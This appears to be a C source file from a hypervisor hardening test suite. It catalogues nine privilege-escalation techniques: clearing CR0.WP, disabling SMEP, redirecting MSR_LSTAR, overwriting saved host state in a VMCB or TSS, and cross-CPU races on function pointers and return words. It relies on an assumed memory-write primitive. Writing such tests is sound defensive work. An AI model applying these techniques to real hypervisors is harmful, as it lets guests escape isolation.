/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The processor's state: control registers, MSRs, and what it saves to memory and loads again; and races between two
 * CPUs for one function pointer or return word.
 */
#define _GNU_SOURCE
#include "attacker.h"

#define SMEP (1UL << 20)
#define PGE (1UL << 7)
#define WP (1UL << 16)
#define HOST_RIP 0x578 /* in the page where VMRUN saves the host's state, as in a VMCB */
#define TR_BASE 0x498 /* in a VMCB */
#define TSS_NMI 44 /* in a TSS, the stack of an NMI */

/* ---- control registers ---- */

/* Where code writes %rax to CR0: the gate's only such place when there is a gate. */
static word cr0_write(void)
{
    word at = code("do_fpu_taskswitch"), end = at + 256;

    for ( ; at < end; at++ )
        if ( (peek(at) & 0xffffff) == 0xc0220f )
            return at;
    fail("no write to CR0 in do_fpu_taskswitch");
}

static void cr0_middle(word place)
{
    poke(data("attack_args"), fact(FACT_CR0, 0) & ~WP);
    poke(data("attack_args") + 8, code("attack_won_if_unprotected"));
    cause(CAUSE_OVERFLOW, place);
}

static void cr0_code(void) { cr0_middle(cr0_write()); }
static void cr0_gate(void) { cr0_middle(has_gate() ? code("hs_gate_open") : cr0_write()); }

/* Without SMEP the hypervisor can be sent to code of a guest's. */
static void go_to_guest(void)
{
    poke(data("attack_call"), (word)own_jump(won()));
    cause(CAUSE_CALL, 0);
}

static void cr4_call(void)
{
    word cr4 = peek(fact(FACT_CR4_CACHE, 0));

    if ( !(cr4 & SMEP) )
        fail("SMEP is not on");
    call(code("switch_cr3_cr4"), fact(FACT_CR3, 0), cr4 & ~SMEP);
    go_to_guest();
}

static void cr4_cache(void)
{
    word at = fact(FACT_CR4_CACHE, 0), cr4 = peek(at);

    if ( !(cr4 & SMEP) )
        fail("SMEP is not on");
    poke(at, (cr4 & ~SMEP) | PGE); /* a flush of the TLB loads CR4 where global pages are on */
    cause(CAUSE_RELOAD_CR3, 0);
    go_to_guest();
}

/* The function that sets MSR_LSTAR for a CPU takes the address from memory; the next system call goes there. */
static void lstar(void)
{
    poke(per_cpu("stubs", 0), won_anywhere());
    call(code("percpu_traps_init"), 0, 0);
    pause_ms(10);
}

/* ---- what the processor saves and loads ---- */

static void host_state(void)
{
    word at = directmap_of(peek(per_cpu("hsa", 1))) + HOST_RIP;
    int i;

    stay_in_guest_on_other_cpu();
    pause_ms(100);
    for ( i = 0; i < 2000; i++ )
        poke(at, won());
}

/* The TSS of a CPU comes from a VMCB of the host's when a guest's context is put away; it names the stack of an NMI. */
static void host_vmcb(void)
{
    word tss = heap_pages(0), stack = forged_stack(peek(data("stack_base") + 8), "do_nmi");

    poke(tss + TSS_NMI, stack + stack_size() - PAGE);
    poke(directmap_of(peek(per_cpu("host_vmcb", 1))) + TR_BASE, tss);
    cause(CAUSE_SAVE_CONTEXT, 1);
    cause(CAUSE_NMI, 1);
}

/* ---- races ---- */

/* The pointer is good half of the time, so that whoever checks it and then reads it again is fooled. */
static void pointer_race(void)
{
    word at = fact(FACT_NOTIFIER_FUNCTION, 0);
    int i;

    hammer(0, at, peek(at), pointer(POINTER_ALIEN));
    hold_other_cpu(CAUSE_HAMMER);
    for ( i = 0; i < 3000; i++ )
        cause(CAUSE_NOTIFIER, 1);
    release_other_cpu();
}

/* The function returns at about the time when the hammer lets it: the slot is not its own any more soon after. */
static void return_race(void)
{
    word leave = data("attack_leave"), slot;
    int i;

    for ( i = 0; i < 40; i++ )
    {
        poke(leave, 0);
        hold_other_cpu(CAUSE_WAIT);
        slot = peek(data("attack_slot"));
        hammer(0, slot, peek(slot), pointer(POINTER_ALIEN));
        hammer(1, leave, 1, 1);
        cause(CAUSE_HAMMER, 1000);
        release_other_cpu();
    }
}

const struct attack state_attacks[] = {
    { "cr0-code", "a chain of return words clears CR0.WP by code of the hypervisor that writes CR0", cr0_code },
    { "cr0-gate", "a chain of return words goes to the middle of the code that may clear CR0.WP", cr0_gate },
    { "cr4-call", "the function that loads CR4 is called to switch SMEP off, for code of a guest's", cr4_call },
    { "cr4-cache", "what the hypervisor believes CR4 to be loses SMEP, for code of a guest's", cr4_cache },
    { "lstar", "the function that sets MSR_LSTAR is called after its argument in memory was changed", lstar },
    { "host-state", "the RIP that the processor loads when a PVH guest exits is overwritten", host_state, "pvh" },
    { "host-vmcb", "the address of a CPU's TSS changes where it is saved while a PVH guest runs", host_vmcb, "pvh" },
    { "pointer-race", "a function pointer is good and bad in turn, by the other CPU, while it is called", pointer_race },
    { "return-race", "a return word is good and bad in turn, by the other CPU, while its function returns", return_race },
    { 0 }
};
